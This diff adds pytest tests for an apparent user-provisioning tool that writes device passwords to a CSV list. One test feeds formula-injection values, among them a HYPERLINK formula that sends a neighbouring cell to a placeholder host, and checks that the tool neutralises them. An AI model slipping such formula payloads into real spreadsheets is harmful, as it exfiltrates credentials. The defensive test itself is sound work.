@@ -241,6 +241,40 @@ def test_new_people_get_device_passwords_in_a_list(shop: Shop, tmp_path: Path) -
     assert shop.run("apply", ROOT / "deploy" / "apply.example.csv", "--devices", listed).code == 73
 
 
+def test_people_were_left_without_a_password_where_the_list_could_not_be_written(shop: Shop, tmp_path: Path) -> None:
+    rows = written(tmp_path, "organisation,login,name\nKund,bo,Bo\n", "w.csv")
+    assert shop.run("apply", rows, "--yes", "--devices", tmp_path / "none" / "list.csv").code == 73
+    assert len(shop.ok("org", "list")) == 1
+
+
+def test_people_were_left_without_a_password_where_the_work_stopped_later(shop: Shop, tmp_path: Path) -> None:
+    text = """
+[[person]]
+login = "bo"
+name = "Bo"
+[[organisation]]
+name = "Ett"
+[[organisation]]
+name = "Två"
+[[space]]
+name = "Rummet"
+grants = [{ role = "viewer", organisation = "Ett" }, { role = "editor", organisation = "Två" }]
+"""
+    listed = tmp_path / "devices.csv"
+    assert shop.run("apply", written(tmp_path, text), "--yes", "--devices", listed).code == 8
+    (row,) = csv.DictReader(listed.read_text(encoding="utf-8").splitlines())
+    assert row["login"] == "bo" and row["device_password"].startswith("mrd_")
+    assert len(shop.ok("device", "list", "bo")) == 1
+
+
+def test_a_name_in_the_list_was_a_formula(shop: Shop, tmp_path: Path) -> None:
+    rows = ["organisation,login,name", "=1+1,@bo,-2+3", '+A,eva,"=HYPERLINK(""http://x/?""&D2)"']
+    listed = tmp_path / "devices.csv"
+    shop.ok("apply", written(tmp_path, "\n".join(rows), "w.csv"), "--yes", "--devices", listed)
+    for row in list(csv.reader(listed.read_text(encoding="utf-8").splitlines()))[1:]:
+        assert not [text for text in row if text.startswith(("=", "+", "-", "@"))], row
+
+
 def test_a_spreadsheet_of_any_country_is_read(shop: Shop, tmp_path: Path) -> None:
     file = tmp_path / "kunder.csv"
     file.write_bytes(b"\xef\xbb\xbf" + "Organisation;Space;Role\r\nKafé Blåbär;Akten;viewer\r\n;;\r\n".encode())
